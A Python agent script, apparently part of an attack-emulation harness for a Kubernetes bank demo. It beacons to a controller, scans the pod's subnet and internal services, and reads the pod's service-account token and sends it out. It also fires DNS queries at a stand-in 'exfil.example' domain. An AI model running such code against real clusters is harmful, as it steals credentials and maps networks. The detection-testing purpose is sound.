"""What runs in the victim's container: ``python3 agent.py HOST PORT ATTACK SECONDS [DNS_PORT]``.

It keeps one connection open with a heartbeat every 200 ms, opens a new one every 100 ms, looks round every 10 s,
hands over the pod's own token, and tries DNS straight to its host. It ends when the host says so, and after SECONDS at
the latest. Standard library only; it changes nothing but its own file.
"""

import contextlib
import errno
import ipaddress
import json
import os
import selectors
import socket
import struct
import sys
import threading
import time
from pathlib import Path
from typing import Any, BinaryIO

Message = dict[str, Any]
Address = tuple[str, int]

TOKEN_FILE = Path("/var/run/secrets/kubernetes.io/serviceaccount/token")
HEARTBEAT = 0.2
BEACON = 0.1
SCAN = 10.0
TOKEN = 30.0
DNS = 1.0
CONNECT_TIMEOUT = 0.5
# A heartbeat without an answer for so long: the connection is taken for lost and opened anew.
FLOW_TIMEOUT = 3.0
SCAN_WINDOW = 1.0
SCAN_PORT = 8080
SERVICES = ("gateway", "accounts", "cards", "loans", "ledger")
LONGEST_LIFE = 900.0


class Agent:
    def __init__(self, host: str, port: int, attack: str, seconds: float, dns_port: int) -> None:
        self.address = (host, port)
        self.dns_address = (host, dns_port)
        self.identity = {"attack": attack, "pod": os.environ.get("POD_NAME") or os.uname().nodename}
        self.deadline = time.monotonic() + min(seconds, LONGEST_LIFE)
        self.ended = threading.Event()

    def run(self) -> None:
        for work in (self.beacon, self.hold_flow, self.scan, self.hand_over_token, self.ask_dns):
            threading.Thread(target=work, daemon=True).start()
        self.ended.wait(self.deadline - time.monotonic())

    def beacon(self) -> None:
        while not self.ended.wait(BEACON):
            self.send({"kind": "beacon", "cause": "interval"})

    def hold_flow(self) -> None:
        cause = "flow"
        number = 0
        while not self.ended.wait(HEARTBEAT):
            with contextlib.suppress(OSError), socket.create_connection(self.address, CONNECT_TIMEOUT) as flow:
                flow.settimeout(FLOW_TIMEOUT)
                answers = flow.makefile("rb")
                self.exchange(flow, answers, {"kind": "beacon", "cause": cause})
                cause = "reconnect"
                while not self.ended.wait(HEARTBEAT):
                    number += 1
                    self.exchange(flow, answers, {"kind": "flow", "n": number})

    def scan(self) -> None:
        while not self.ended.is_set():
            targets = neighbours(self.address)
            self.send({"kind": "scan", "answered": answering(targets), "asked": len(targets)})
            self.ended.wait(SCAN)

    def hand_over_token(self) -> None:
        while not self.ended.is_set():
            delivered = False
            with contextlib.suppress(OSError):
                delivered = self.send({"kind": "token", "token": TOKEN_FILE.read_text().strip()})
            self.ended.wait(TOKEN if delivered else 1.0)

    def ask_dns(self) -> None:
        number = 0
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            while not self.ended.wait(DNS):
                number += 1
                name = f"{number}.{self.identity['attack']}.exfil.example"
                with contextlib.suppress(OSError):
                    sender.sendto(query(number, name), self.dns_address)

    def send(self, message: Message) -> bool:
        """One message over a connection of its own. Returns whether it was answered."""
        try:
            with socket.create_connection(self.address, CONNECT_TIMEOUT) as connection:
                connection.settimeout(CONNECT_TIMEOUT)
                self.exchange(connection, connection.makefile("rb"), message)
        except OSError:
            return False
        return True

    def exchange(self, connection: socket.socket, answers: BinaryIO, message: Message) -> None:
        line = json.dumps({**self.identity, "sent": time.time(), **message})
        connection.sendall(line.encode() + b"\n")
        answer = answers.readline()
        if not answer:
            raise ConnectionResetError(errno.ECONNRESET, "closed by the host")
        if json.loads(answer)["quit"]:
            self.ended.set()


def neighbours(reachable: Address) -> dict[str, Address]:
    """Label -> address: the pods of this /24; in a cluster also the bank's Services and the API server's."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect(reachable)
        own = probe.getsockname()[0]
    network = ipaddress.ip_network(f"{own}/24", strict=False)
    found = {f"{host}:{SCAN_PORT}": (str(host), SCAN_PORT) for host in network.hosts() if str(host) != own}
    if "KUBERNETES_SERVICE_HOST" in os.environ:
        for name in SERVICES:
            with contextlib.suppress(OSError):
                found[f"{name}:{SCAN_PORT}"] = (socket.gethostbyname(name), SCAN_PORT)
        port = int(os.environ.get("KUBERNETES_SERVICE_PORT", "443"))
        found[f"kubernetes:{port}"] = (os.environ["KUBERNETES_SERVICE_HOST"], port)
    return found


def answering(targets: dict[str, Address]) -> list[str]:
    """The labels of the targets that accept a connection within a second, all tried at once."""
    answered = []
    connections = {}
    with selectors.DefaultSelector() as selector, contextlib.ExitStack() as opened:
        for label, address in targets.items():
            connection = opened.enter_context(socket.socket(socket.AF_INET, socket.SOCK_STREAM))
            connection.setblocking(False)
            if connection.connect_ex(address) in (0, errno.EINPROGRESS):
                selector.register(connection, selectors.EVENT_WRITE, label)
                connections[label] = connection
        end = time.monotonic() + SCAN_WINDOW
        while selector.get_map() and (left := end - time.monotonic()) > 0:
            for key, _ in selector.select(left):
                if connections[key.data].getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                    answered.append(key.data)
                selector.unregister(key.fileobj)
    return sorted(answered)


def query(number: int, name: str) -> bytes:
    """A DNS query for a TXT record (RFC 1035, section 4.1)."""
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!6H", number & 0xFFFF, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", 16, 1)


if __name__ == "__main__":
    # Names that nobody resolves must not hold up the scan.
    os.environ["RES_OPTIONS"] = "timeout:1 attempts:1"
    dns_port = int(sys.argv[5]) if len(sys.argv) > 5 else 53
    Agent(sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4]), dns_port).run()
